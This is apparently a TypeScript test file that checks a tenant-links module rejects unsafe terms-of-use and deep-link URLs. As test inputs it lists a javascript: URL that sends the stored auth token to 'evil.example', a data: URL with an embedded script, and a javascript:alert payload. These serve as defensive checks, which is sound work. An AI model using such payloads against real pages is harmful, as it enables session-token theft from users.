import { describe, expect, it } from 'vitest';
import { memoryStore } from '../storage/storage-keys';
import { deepLinkBase, storedTermsUrl } from './tenant-links';

const ORIGIN = 'https://panel.example.com';

describe('tenant links', () => {
  it('opens an https terms link and a local http one', () => {
    expect(storedTermsUrl(memoryStore({ 'terms-of-use': 'https://example.com/terms' }))).toBe(
      'https://example.com/terms',
    );
    expect(storedTermsUrl(memoryStore({ 'terms-of-use': 'http://localhost:5173/t' }))).toBe(
      'http://localhost:5173/t',
    );
    expect(storedTermsUrl(memoryStore())).toBeUndefined();
  });

  it('refuses a script, data or plain http terms link', () => {
    for (const bad of [
      'javascript:fetch("//evil.example?"+localStorage["auth-token"])',
      'data:text/html,<script>alert(1)</script>',
      'http://evil.example/terms',
    ])
      expect(storedTermsUrl(memoryStore({ 'terms-of-use': bad })), bad).toBeUndefined();
  });

  it('builds deep links on an https host only, else on this page', () => {
    const base = (value: string) =>
      deepLinkBase(memoryStore({ 'deeplinking-host': value }), ORIGIN);
    expect(base('https://app.example.com')).toBe('https://app.example.com');
    expect(base('javascript:alert(1)')).toBe(ORIGIN);
    expect(base('http://evil.example')).toBe(ORIGIN);
    expect(base('app.example.com')).toBe(ORIGIN);
    expect(deepLinkBase(memoryStore(), ORIGIN)).toBe(ORIGIN);
  });
});
